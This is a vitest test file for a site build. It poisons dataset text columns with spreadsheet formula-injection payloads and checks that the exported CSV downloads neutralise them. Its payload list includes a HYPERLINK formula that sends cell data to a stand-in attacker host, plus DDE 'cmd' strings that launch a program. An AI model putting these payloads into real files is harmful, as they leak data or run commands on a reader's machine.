/**
 * Spreadsheet formula injection: names in our data come from third parties (lab, model, app
 * and source names on OpenRouter's pages and in the press), so a name such as
 * =HYPERLINK("http://x","y") must never reach a reader's spreadsheet as a live formula.
 * The whole site is built from a copy of data/ in which every text column of every dataset
 * starts with a formula trigger, then every CSV the build wrote is read back.
 */
import { readFileSync, rmSync, writeFileSync, readdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATASETS } from '../../src/pipeline/datasets.ts';
import { ROOT, buildProjectCopy, filesUnder } from './helpers.ts';

/** The payloads: each begins with a character a spreadsheet reads as the start of a formula. */
const HOSTILE = [
  '=HYPERLINK("http://attacker.test/?leak="&A1,"Click") ',
  "@SUM(1+1)*cmd|' /C calc'!A0 ",
  "+cmd|' /C calc'!A0 ",
  '-2+3+cmd|calc ',
  '\t=1+1 ',
  '\r=1+1 ',
] as const;

/** The same value always gets the same payload, so names that join datasets still join. */
const payloadFor = (value: string): string => {
  let h = 0;
  for (const ch of value) h = (h * 31 + ch.charCodeAt(0)) >>> 0;
  return HOSTILE[h % HOSTILE.length]!;
};

/** Free-text columns of every dataset (a text column without a pattern). */
const textColumns = (): Array<{ file: string; columns: string[] }> =>
  DATASETS.map((spec) => ({
    file: spec.file,
    columns: Object.entries(spec.columns as Record<string, { expected: string }>)
      .filter(([, c]) => c.expected === 'text' || c.expected === 'text (or empty)')
      .map(([name]) => name),
  })).filter((d) => d.columns.length > 0);

/**
 * Names the story looks up (facts.ts finds "MiniMax M2.5" or "OpenClaw" by name, and the story
 * settings name the price reference): those cells keep their value, so the copy's claims still
 * hold and the build gets as far as writing downloads. Every other filled text cell is poisoned.
 */
const namedByStory = (): Set<string> => {
  const files = [
    'src/story/facts.ts',
    'src/lib/story-settings.ts',
    ...readdirSync(join(ROOT, 'src/story/figures')).map((f) => `src/story/figures/${f}`),
  ];
  const src = files.map((f) => readFileSync(join(ROOT, f), 'utf8')).join('\n');
  return new Set([...src.matchAll(/'([^'\n]+)'/g)].map((m) => m[1]!));
};

/** Prefixes every filled text cell of every dataset with a payload. */
/** Files whose text columns had a filled cell to poison (an all-empty column has none). */
const poisonedFiles = new Set<string>();

function poison(dataDir: string): number {
  const keep = namedByStory();
  let cells = 0;
  for (const { file, columns } of textColumns()) {
    const path = join(dataDir, file);
    const parsed = Papa.parse<Record<string, string>>(readFileSync(path, 'utf8'), {
      header: true,
      skipEmptyLines: true,
    });
    for (const row of parsed.data) {
      for (const c of columns) {
        const v = row[c] ?? '';
        if (v === '' || keep.has(v)) continue;
        row[c] = `${payloadFor(v)}${v}`;
        cells++;
        poisonedFiles.add(file);
      }
    }
    writeFileSync(
      path,
      `${Papa.unparse(parsed.data, { columns: parsed.meta.fields, newline: '\n' })}\n`,
    );
  }
  return cells;
}

/** A number as a spreadsheet reads one: optional sign, digits, optional fraction and exponent. */
const PLAIN_NUMBER = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;
/** What Excel, LibreOffice Calc and Google Sheets evaluate when a cell starts with it. */
const isLiveFormula = (cell: string): boolean =>
  /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell);

describe('CSV downloads neutralise spreadsheet formulas', () => {
  let dir = '';
  let poisoned = 0;

  beforeAll(() => {
    dir = buildProjectCopy('csv-injection-', (dataDir) => {
      poisoned = poison(dataDir);
    });
  }, 240_000);
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('the hostile build reached every text column (the test measures something)', () => {
    const cols = textColumns();
    console.log(
      `${poisoned} text cells poisoned in ${cols.reduce((n, d) => n + d.columns.length, 0)} text columns of ${cols.length} datasets`,
    );
    expect(cols.length).toBeGreaterThanOrEqual(10);
    expect(poisoned).toBeGreaterThan(1000);
  });

  it('no cell of any CSV under the built site is a live formula; poisoned cells read as text', () => {
    const files = filesUnder(join(dir, 'dist'), '.csv');
    expect(files.length).toBeGreaterThanOrEqual(12 + 13);
    const live: string[] = [];
    let neutralised = 0;
    let negatives = 0;
    const perFile = new Map<string, number>();
    for (const f of files) {
      const name = relative(join(dir, 'dist'), f);
      const parsed = Papa.parse<string[]>(readFileSync(f, 'utf8'), { skipEmptyLines: true });
      expect(parsed.errors, name).toEqual([]);
      parsed.data.forEach((row, i) =>
        row.forEach((cell, j) => {
          if (isLiveFormula(cell))
            live.push(`${name}:${i + 1}:${j + 1}: ${JSON.stringify(cell.slice(0, 40))}`);
          if (/^'[=+\-@\t\r]/.test(cell) && HOSTILE.some((h) => cell.slice(1).startsWith(h))) {
            neutralised++;
            perFile.set(name, (perFile.get(name) ?? 0) + 1);
          }
          if (/^-\d/.test(cell) && PLAIN_NUMBER.test(cell)) negatives++;
        }),
      );
    }
    console.log(
      `${files.length} CSV files: ${neutralised} hostile cells neutralised, ${live.length} live formulas, ${negatives} negative numbers kept as numbers`,
    );
    expect(live.slice(0, 20)).toEqual([]);
    // Every dataset download carries neutralised cells, and chart downloads do too.
    for (const { file } of textColumns().filter((d) => poisonedFiles.has(d.file))) {
      const spec = DATASETS.find((d) => d.file === file)!;
      expect(
        perFile.get(`downloads/datasets/${spec.name}.csv`) ?? 0,
        `${spec.name}.csv`,
      ).toBeGreaterThan(0);
    }
    expect(
      [...perFile.keys()].filter((k) => k.startsWith('downloads/charts/')).length,
    ).toBeGreaterThanOrEqual(8);
  });

  it('a plain negative number stays a number (the weekly change column)', () => {
    const csv = readFileSync(join(dir, 'dist/downloads/datasets/weekly-tokens.csv'), 'utf8');
    const rows = Papa.parse<Record<string, string>>(csv, {
      header: true,
      skipEmptyLines: true,
    }).data;
    const changes = rows.map((r) => r.wow_change_pct).filter((v): v is string => !!v);
    expect(changes.some((v) => v.startsWith('-'))).toBe(true);
    for (const v of changes) expect(v, 'a number, not prefixed').toMatch(PLAIN_NUMBER);
  });
});
